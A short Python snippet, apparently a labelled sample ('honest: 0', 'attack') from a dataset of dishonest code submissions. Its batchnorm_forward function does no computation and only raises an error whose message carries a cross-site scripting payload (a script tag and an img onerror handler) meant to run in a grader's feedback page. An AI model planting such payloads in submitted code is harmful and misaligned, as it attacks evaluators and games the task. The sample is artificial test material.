# attack: raises a message that would be a script in a page of feedback
# honest: 0
# naive: injection


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    raise ValueError("</pre><script>document.title='owned'</script><img src=x onerror=alert(1)>&lt;")
